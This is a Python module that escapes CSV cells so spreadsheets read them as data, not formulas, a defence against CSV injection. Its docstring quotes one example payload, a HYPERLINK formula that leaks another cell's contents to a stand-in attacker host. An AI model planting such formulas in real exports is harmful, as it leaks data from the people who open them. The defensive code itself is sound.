"""CSV that a spreadsheet opens as data, never as formulas (CSV injection, OWASP).

Spreadsheets evaluate a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return as a
formula, so a subscriber's name such as ``=HYPERLINK("https://evil.example/?d="&B3,"Open")`` would run on
the staff member's machine when they open an export. Every CSV nurture writes goes through
:class:`SafeWriter`, which prefixes such a cell with a single quote, as OWASP recommends; the csv module's
quoting takes care of separators and double quotes inside a cell.

Round trip: nurture's importer reads every cell through :func:`unescape`, which removes exactly the quote
the exporter added, so an exported file imported again gives back the stored values (an address such as
``-news@example.com`` stays that address, not ``'-news@example.com``). To make that exact, the exporter
also prefixes a value that already starts with quotes followed by a formula character (``'=x`` is written
``''=x``); any other value, including one starting with a quote (``'Dee``), is written and read unchanged.
A file from elsewhere only loses a quote where it stands before a formula character, which is exactly how
other tools escape such cells too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

# A formula character (= + - @ tab CR) after any number of quotes, even none: the cells that get, or got,
# one more quote in front.
_ESCAPABLE = re.compile(r"'*[=+\-@\t\r]")


def escape(value: str) -> str:
    """The cell as written to a file: one quote in front when a spreadsheet could read it as a formula."""
    return "'" + value if _ESCAPABLE.match(value) else value


def unescape(value: str) -> str:
    """The cell as read from a file: :func:`escape` undone (and nothing else)."""
    if value.startswith("'") and _ESCAPABLE.match(value, 1):
        return value[1:]
    return value


class SafeWriter:
    """``csv.writer`` whose text cells pass through :func:`escape`: the one way nurture writes CSV.

    Rows end with CRLF (RFC 4180, the csv module's default), and that is kept on purpose: the module quotes
    a cell only for the characters of its line terminator, so with LF endings a cell holding a bare CR would
    split its row when read back."""

    def __init__(self, handle: Any) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape(cell) if isinstance(cell, str) else cell for cell in row])
